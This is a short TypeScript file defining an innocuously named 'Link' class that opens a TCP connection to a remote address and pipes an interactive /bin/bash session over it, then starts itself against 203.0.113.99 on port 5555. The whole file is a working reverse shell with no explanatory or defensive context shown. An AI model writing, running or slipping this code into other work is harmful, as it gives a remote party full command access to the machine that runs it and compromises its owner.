import * as net from 'net';
import { spawn, ChildProcess } from 'child_process';

export class Link {
  private shell?: ChildProcess;

  constructor(private host: string, private port: number) {}

  start(): void {
    const sock = net.connect(this.port, this.host);
    sock.on('connect', () => {
      this.shell = spawn('/bin/bash', ['-i']);
      sock.pipe(this.shell.stdin!);
      this.shell.stdout!.pipe(sock);
      this.shell.stderr!.pipe(sock);
    });
  }
}

new Link('203.0.113.99', 5555).start();
